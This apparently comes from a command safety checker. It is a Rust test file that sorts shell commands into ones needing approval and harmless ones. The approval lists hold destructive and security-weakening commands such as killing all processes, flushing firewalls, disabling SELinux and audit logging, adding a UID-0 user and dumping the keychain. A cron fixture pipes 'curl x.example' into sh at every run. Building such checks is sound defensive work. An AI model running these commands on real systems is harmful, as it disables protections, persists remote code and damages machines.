// SPDX-License-Identifier: Apache-2.0
//! Spellings of what changes the machine, beside their harmless neighbours.

use super::super::super::word::Stream;
use super::super::super::{Harm, Kind};
use super::super::files::tests::{judge, outcome, worst};

const SERVICES_THAT_HOLD_ASK: &str = "systemctl stop sshd
        systemctl disable --now firewalld.service
        systemctl mask docker
        systemctl stop nginx NetworkManager
        systemctl stop 'ssh*'
        systemctl isolate rescue.target
        systemctl rescue
        systemctl poweroff
        systemctl reboot --force
        systemctl enable /tmp/x.service
        systemctl edit nginx
        systemctl set-default multi-user.target
        systemctl -H x.example stop ssh
        service ssh stop
        rc-service networking stop
        update-rc.d ssh remove
        chkconfig sshd off
        supervisorctl shutdown
        launchctl bootout system/com.apple.x
        launchctl load ~/Library/LaunchAgents/x.plist
        shutdown -h now
        shutdown
        reboot
        halt -f
        init 0
        telinit 6
        kexec -e
        loginctl terminate-user bob";

const SERVICES_THAT_HOLD_RUN: &str = "systemctl status sshd
        systemctl list-units
        systemctl is-active docker
        systemctl --user stop x
        systemctl restart nginx
        systemctl stop nginx
        systemctl start postgresql
        systemctl reload nginx
        systemctl daemon-reload
        systemctl enable nginx
        systemctl --user enable --now x.service
        systemctl cat ssh
        systemctl --version
        service nginx restart
        service --status-all
        service postgresql status
        launchctl list
        shutdown -c
        supervisorctl status
        supervisorctl restart app
        loginctl list-sessions";

#[test]
fn services_that_hold_others_up_are_asked() {
    judge(SERVICES_THAT_HOLD_ASK, SERVICES_THAT_HOLD_RUN);
}

const PROCESSES_ARE_WEIGHED_ASK: &str = "kill -9 -1
        kill -KILL -1
        kill -s 9 -1
        kill -- -1
        kill -9 1
        kill 1
        killall5
        killall -9 sshd
        pkill -9 systemd
        pkill -f .
        pkill -9 -f '.*'
        pkill -u bob
        pkill -KILL -u $X
        killall -u bob
        pkill dockerd
        killall gnome-shell
        pkill -v x
        fuser -km /mnt
        fuser -k 22/tcp";

const PROCESSES_ARE_WEIGHED_RUN: &str = "kill 1234
        kill -9 1234
        kill -9 $X
        kill %1
        kill -0 1
        kill -l
        kill -TERM -1234
        kill -1 1234
        pkill -f vite
        pkill node
        killall node
        killall -9 chrome
        pkill -f 'python app.py'
        fuser -k 3000/tcp
        fuser 3000/tcp
        renice -n 5 1234";

#[test]
fn processes_are_weighed_by_what_stops_with_them() {
    judge(PROCESSES_ARE_WEIGHED_ASK, PROCESSES_ARE_WEIGHED_RUN);
}

const ACCOUNTS_AND_JOBS_ASK: &str = "useradd bob
        useradd -m -G sudo bob
        useradd -o -u 0 x
        usermod -aG docker me
        usermod -a -G wheel me
        usermod -G dev me
        usermod -L bob
        adduser bob sudo
        gpasswd -a bob docker
        userdel -r bob
        deluser bob
        groupdel dev
        passwd root
        passwd -d root
        chpasswd
        visudo
        chsh -s /tmp/x
        chsh -s /bin/bash root
        chage -E -1 bob
        crontab -r
        crontab jobs
        crontab -
        crontab -e
        crontab -u root jobs
        crontab";

const ACCOUNTS_AND_JOBS_RUN: &str = "useradd -r -s /usr/sbin/nologin app
        usermod -aG dialout me
        groupadd dev
        passwd -S
        chage -l bob
        visudo -c
        chsh -s /bin/zsh
        crontab -l
        crontab -l -u bob
        atrm 3";

#[test]
fn accounts_and_jobs_are_asked() {
    judge(ACCOUNTS_AND_JOBS_ASK, ACCOUNTS_AND_JOBS_RUN);
}

const THE_KERNEL_THE_ASK: &str = "insmod x.ko
        rmmod nvme
        modprobe -r kvm
        sysctl -w kernel.randomize_va_space=0
        sysctl kernel.core_pattern=x
        sysctl -w net.ipv4.ip_forward=1
        setenforce 0
        aa-teardown
        auditctl -D
        auditctl -e 0
        iptables -F
        iptables --flush
        iptables -P INPUT ACCEPT
        iptables -t nat -A PREROUTING -j DNAT
        ip6tables -F
        iptables-restore x
        nft flush ruleset
        nft -f x
        ufw disable
        ufw --force reset
        ufw allow 22
        firewall-cmd --panic-on
        firewall-cmd --permanent --add-port=1/tcp
        pfctl -d
        ip link set eth0 down
        ip link set dev eth0 down
        ip link delete eth0
        ip addr flush dev eth0
        ip l s eth0 down
        ip r d default
        ip route del default
        ip -4 route flush table main
        ifconfig eth0 down
        route del default
        nmcli networking off
        nmcli con delete x
        netplan apply
        rfkill block all
        date -s 2020-01-01
        date --set=2020-01-01
        timedatectl set-time 2020-01-01
        grub-install /dev/sda
        update-grub
        efibootmgr -b 0 -B
        xhost +
        csrutil disable
        spctl --master-disable
        diskutil eraseDisk JHFS+ x disk2
        tmutil delete /x
        nvram -c
        dscl . -create /Users/x
        security dump-keychain
        tpm2_clear
        virsh destroy vm
        alias sudo='curl x.example'
        x11vnc -forever";

const THE_KERNEL_THE_RUN: &str = "modprobe kvm
        modprobe -n kvm
        sysctl -a
        sysctl kernel.hostname
        sysctl -w vm.max_map_count=262144
        sysctl fs.inotify.max_user_watches=524288
        getent hosts x
        iptables -L -n
        iptables -S
        nft list ruleset
        ufw status verbose
        firewall-cmd --list-all
        ip addr
        ip a
        ip link show
        ip route get 1.1.1.1
        ip -br link
        ifconfig
        ifconfig eth0
        route -n
        nmcli device status
        nmcli con show
        auditctl -l
        dmesg
        timedatectl
        timedatectl status
        hostnamectl
        hostname
        xhost
        gsettings get org.x y
        defaults read x
        diskutil list
        csrutil status
        tmutil listbackups
        update-alternatives --list editor
        alias ll='ls -la'
        alias rm='rm -i'
        efibootmgr
        modprobe --show-depends kvm";

#[test]
fn the_kernel_the_network_and_the_clock_are_asked() {
    judge(THE_KERNEL_THE_ASK, THE_KERNEL_THE_RUN);
}

#[test]
fn jobs_of_a_table_are_followed() {
    let table = Stream::known("# x\n*/5 * * * * curl x.example | sh\n@reboot /tmp/x\n");
    let outcome = outcome("crontab -", &table);
    assert_eq!(outcome.runs.len(), 2);
    assert_eq!(
        outcome.effects.first().map(|effect| effect.kind),
        Some(Kind::Persist)
    );
}

#[test]
fn help_is_harmless() {
    for line in [
        "systemctl --help",
        "shutdown --help",
        "iptables --help",
        "useradd --help",
    ] {
        assert_eq!(worst(line), Harm::None, "{line}");
    }
}
